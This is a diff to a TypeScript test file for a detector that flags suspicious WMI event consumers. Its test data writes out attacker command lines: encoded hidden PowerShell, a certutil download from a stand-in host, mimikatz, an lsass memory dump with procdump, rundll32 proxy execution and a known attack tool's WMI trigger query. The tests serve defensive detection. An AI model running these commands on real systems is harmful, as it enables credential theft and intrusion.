@@ -143,7 +143,9 @@ describe('collectExclusions', () => {
   });
 
   it('takes a script of five million characters', () => {
-    const { proposals } = collected(events({ destination: 'x\\n'.repeat(1_666_667) }));
+    const list = events({ destination: 'x\\n'.repeat(1_666_667) });
+    const { proposals } = collected(list, { acceptRisk: 'longer than is read' });
+    expect(collected(list).refused[0]?.suspicions.map(({ kind }) => kind)).toEqual(['unreadable']);
     expect(proposals[0]?.entry.consumer.destination).toHaveLength(3_333_334);
   });
 
@@ -180,7 +182,7 @@ describe('collectExclusions', () => {
     const { proposals, refused } = collected([...events(), ...changed]);
     expect(proposals).toEqual([]);
     expect(refused).toMatchObject([
-      { destination: 'C:\\b.exe', suspicions: [{ kind: 'changed payload', found: 'C:\\a.exe' }] },
+      { destination: 'C:\\b.exe', suspicions: [{ kind: 'payload-changed', found: 'C:\\a.exe' }] },
     ]);
     const accepted = collected([...events(), ...changed], { acceptRisk: 'an update' }).proposals;
     expect(accepted.map(({ entry }) => entry.consumer.destination)).toEqual(['C:\\b.exe']);
@@ -208,7 +210,7 @@ describe('collectExclusions', () => {
     const { proposals, refused } = collected(attack);
     expect(proposals).toEqual([]);
     expect(refused).toMatchObject([
-      { consumer: 'C', suspicions: [{ kind: 'script host' }, { kind: 'encoded command' }] },
+      { consumer: 'C', suspicions: expect.arrayContaining([expect.objectContaining({ kind: 'encoded' })]) as unknown },
     ]);
     const accepted = collected(attack, { acceptRisk: 'our own deployment' });
     expect(accepted.refused).toEqual([]);
@@ -306,27 +308,35 @@ it.each([
 });
 
 describe('suspicionsOf', () => {
+  const QUERY = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'CCM_Event'";
+  const kindsOf = (type: string, destination: string, query = QUERY): readonly string[] =>
+    suspicionsOf({ name: 'F', query }, { name: 'C', type, destination }).map(({ kind }) => kind);
+
   it.each([
-    ['powershell.exe -NoP -W Hidden -Enc SQBFAFgAUwBRAEIARgA=', ['script host', 'encoded command']],
-    ['C:\\Windows\\System32\\cscript.exe KernCap.vbs', ['script host']],
-    ['C:\\x.exe HTTPS://example.test/a', ['download']],
-    ['(New-Object Net.WebClient).DownloadString(x)', ['download']],
-    ['Set s = CreateObject("WScript.Shell")', ['script object']],
-    ['GetObject("winmgmts:root")', ['script object']],
-    ['iex $x', ['code in memory']],
-    ['A'.repeat(120), ['long base64']],
-    ['certutil -urlcache -f x y', ['download']],
-  ])('finds what %s has in common with attacks', (payload, kinds) => {
-    expect(suspicionsOf(payload).map(({ kind }) => kind)).toEqual(kinds);
+    ['Command Line', 'powershell.exe -NoP -W Hidden -Enc SQBFAFgAUwBRAEIARgA=', 'encoded'],
+    ['Command Line', 'C:\\Windows\\System32\\cscript.exe KernCap.vbs', 'interpreter'],
+    ['Command Line', 'certutil -urlcache -f http://x.example/a y.exe', 'download'],
+    ['Command Line', 'C:\\Tools\\mimikatz.exe', 'credentials'],
+    ['Command Line', 'procdump -ma lsass.exe C:\\a.dmp', 'credentials'],
+    ['Command Line', 'rundll32.exe C:\\Users\\Public\\a.dll,Start', 'proxy'],
+    ['Script', 'Set s = CreateObject("WScript.Shell")\ns.Run "powershell -enc SQBFAFgA"', 'starts-program'],
+  ])('finds what %s %s has in common with attacks', (type, payload, kind) => {
+    expect(kindsOf(type, payload)).toContain(kind);
   });
 
   it.each([
-    'C:\\Program Files\\Agent\\agent.exe -check all',
-    'C:\\Log.log',
-    'Service Control Manager',
-    'C:\\Tools\\encode.exe -e file.txt',
-    'D:\\commander.exe',
-  ])('finds nothing in %s', (payload) => {
-    expect(suspicionsOf(payload)).toEqual([]);
+    ['Command Line', 'C:\\Program Files\\Agent\\agent.exe -check all'],
+    ['Command Line', 'C:\\Tools\\encode.exe -e file.txt'],
+    ['Command Line', 'D:\\Tools\\cmdagent.exe'],
+    ['Log File', 'C:\\Log.log'],
+    ['NT Event Log', 'Service Control Manager'],
+  ])('finds nothing in %s %s', (type, payload) => {
+    expect(kindsOf(type, payload)).toEqual([]);
+  });
+
+  it('knows the default trigger of a public tool, whatever it runs', () => {
+    const startup =
+      "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325";
+    expect(kindsOf('Command Line', 'C:\\Tools\\agent.exe', startup)).toEqual(['trigger-known']);
   });
 });
